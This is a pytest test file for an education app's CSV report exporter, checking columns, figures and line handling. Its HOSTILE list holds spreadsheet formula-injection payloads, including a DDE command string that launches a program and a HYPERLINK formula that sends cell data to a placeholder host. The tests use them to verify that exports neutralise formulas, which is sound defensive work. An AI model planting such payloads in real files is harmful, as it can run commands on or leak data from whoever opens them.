import csv
import unicodedata
from dataclasses import replace
from datetime import date
from io import StringIO
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from analytics.exports.rows.columns import CLASS, SKILL, STUDENT
from analytics.exports.spreadsheet import cell, export_report_csv, shielded, written
from analytics.reports.data import Praise, PraiseKind
from tests.analytics.charts.samples import NAMES
from tests.analytics.exports.samples import class_report, skill_report, student_report

Rows = list[dict[str, str]]


def rows(content: bytes) -> Rows:
    """The table as a spreadsheet reads it."""
    return list(csv.DictReader(StringIO(content.decode("utf-8-sig"), newline="")))


def of(part: str, content: bytes) -> Rows:
    return [row for row in rows(content) if row["part"] == part]


def filled(row: dict[str, str]) -> dict[str, str]:
    return {name: value for name, value in row.items() if value}


def test_a_file_starts_with_the_mark_of_utf_8_and_its_lines_end_as_spreadsheets_like_it() -> None:
    content = export_report_csv(student_report(), "student")
    assert content.startswith(b"\xef\xbb\xbfpart,student,")
    assert content.count(b"\n") == content.count(b"\r\n") == len(rows(content)) + 1


def test_a_students_figures_are_numbers() -> None:
    content = export_report_csv(student_report(), "student")
    (whole,) = of("range", content)
    assert filled(whole) == {
        "part": "range",
        "student": "Maya Okafor",
        "class": "Grade 5 Maths",
        "from": "2026-09-22",
        "to": "2026-11-20",
        "questions": "277",
        "accuracy_percent": "68",
        "interval_low_percent": "62.29",
        "interval_high_percent": "73.22",
        "class_accuracy_percent": "66",
        "percentile": "72",
        "minutes": "370",
        "active_days": "31",
        "skills_mastered": "8",
        "skills": "12",
        "xp": "2100",
        "streak_days": "5",
        "last_practised": "2026-11-20",
        "note": student_report().finding,
    }


def test_a_student_has_rows_for_everything() -> None:
    content = export_report_csv(student_report(), "student")
    counts = {part: len(of(part, content)) for part in {row["part"] for row in rows(content)}}
    assert counts == {
        "range": 1,
        "range before": 1,
        "week": 9,
        "skill": 12,
        "session": 5,
        "assignment": 4,
        "concern": 2,
        "praise": 1,
        "achievement": 2,
    }


def test_a_week_without_practice_has_no_accuracy() -> None:
    weeks = of("week", export_report_csv(student_report(), "student"))
    (gap,) = [week for week in weeks if week["questions"] == "0"]
    assert gap["from"] == "2026-10-26" and gap["accuracy_percent"] == ""


def test_skills_come_as_they_matter_with_their_states() -> None:
    first = of("skill", export_report_csv(student_report(), "student"))[0]
    assert (first["skill"], first["accuracy_percent"], first["state"], first["questions"]) == (
        "Equivalent fractions",
        "52",
        "needs work",
        "24",
    )


def test_a_classs_students_are_rows_and_so_are_their_skills() -> None:
    report = class_report(27, 42)
    content = export_report_csv(report, "class")
    students, states = of("student", content), of("student's skill", content)
    assert [row["student"] for row in students] == [line.student for line in report.ranking]
    assert len(states) == 27 * 42
    assert students[-1]["note"] == "no practice for 10 school days"
    assert students[0]["xp"] == "900"
    assert len(of("assignment", content)) == 4


def test_a_skills_students_and_what_comes_before_are_rows() -> None:
    content = export_report_csv(skill_report(), "skill")
    (whole,) = of("range", content)
    assert whole["median_questions_to_mastery"] == "31"
    assert whole["median_school_days_to_mastery"] == "8.5"
    assert [row["skill"] for row in of("comes before", content)] == [
        "Place value",
        "Division with remainders",
    ]
    assert [row["student"] for row in of("student", content)] == list(NAMES[:27])
    assert of("student", content)[0]["note"] == "stuck on Place value"


def test_names_of_all_scripts_come_back() -> None:
    content = export_report_csv(class_report(30, 2), "class")
    assert [row["student"] for row in of("student", content)] == list(NAMES)


def test_columns_that_nothing_fills_are_left_out() -> None:
    plain = replace(student_report(), motivation=None, assignments=None)
    header = next(iter(rows(export_report_csv(plain, "student"))))
    assert "xp" not in header and "assignment" not in header
    assert list(header) == [name for name in STUDENT if name in header]


@pytest.mark.parametrize(
    ("kind", "columns"), [("student", STUDENT), ("class", CLASS), ("skill", SKILL)]
)
def test_every_figure_has_its_column(kind: str, columns: tuple[str, ...]) -> None:
    reports: dict[str, Any] = {
        "student": student_report(),
        "class": class_report(),
        "skill": skill_report(),
    }
    header = list(rows(export_report_csv(reports[kind], kind))[0])
    unnamed = {"score", "done_on"} if kind == "student" else set()
    assert set(columns) - set(header) == unnamed


def test_what_cannot_be_made_is_refused() -> None:
    with pytest.raises(ValueError, match="no class report can be made of a StudentReport"):
        export_report_csv(student_report(), "class")


HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://x.test?a="&A1,"here")',
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "﹣1",
    "\u22121",
    '"=1+1',
    "Ana;=1+1",
    "Ana\t=1+1",
    'Ana";=1+1;"',
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("name", HOSTILE)
def test_no_name_becomes_a_formula(name: str) -> None:
    report = replace(student_report(), student=name, class_title=name, finding=name)
    content = export_report_csv(report, "student")
    first = rows(content)[0]
    for column in ("student", "class", "note"):
        assert_safe(first[column])
    text = content.decode("utf-8-sig")
    for row in csv.reader(StringIO(text, newline=""), delimiter=";"):
        for one in row[1:]:
            assert_safe(one)


def assert_safe(text: str) -> None:
    """No spreadsheet reads a formula here, whatever blanks it strips first."""
    seen = "".join(c for c in text if unicodedata.category(c)[0] not in "ZCM").lstrip('"')
    assert unicodedata.normalize("NFKC", seen)[:1] not in set("=+-@\u2212")


@given(st.text())
@example(";;=a")
@example('"""=')
def test_no_text_becomes_a_formula_and_none_breaks_a_line(text: str) -> None:
    shown = shielded(text)
    for part in shown.split(";"):
        assert_safe(part)
    assert not set(shown) & set("\t\r\n")


@given(st.text())
def test_a_text_comes_back_as_it_was_written(text: str) -> None:
    (row,) = rows(written(("part", "note"), [{"part": "x", "note": text + "."}]))
    assert row["note"] == shielded(text + ".")


@pytest.mark.parametrize(
    "text", ["Maya Okafor", "O’Neil, Sam", "Division – part 2", "a=b", "x (-1)"]
)
def test_other_names_stay_as_they_are(text: str) -> None:
    assert shielded(text) == text


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (-3, "-3"),
        (-0.5, "-0.5"),
        (68.0, "68"),
        (1234567.0, "1234567"),
        (None, ""),
        (0, "0"),
        (date(2026, 11, 20), "2026-11-20"),
    ],
)
def test_our_own_numbers_and_days_are_no_text(value: float | date | None, text: str) -> None:
    assert cell(value) == text


def test_a_note_of_several_lines_stays_in_one() -> None:
    praise = (Praise(PraiseKind.STREAK, "five days\r\nin a row"),)
    content = export_report_csv(replace(student_report(), praise=praise), "student")
    assert of("praise", content)[0]["note"] == "five days in a row"
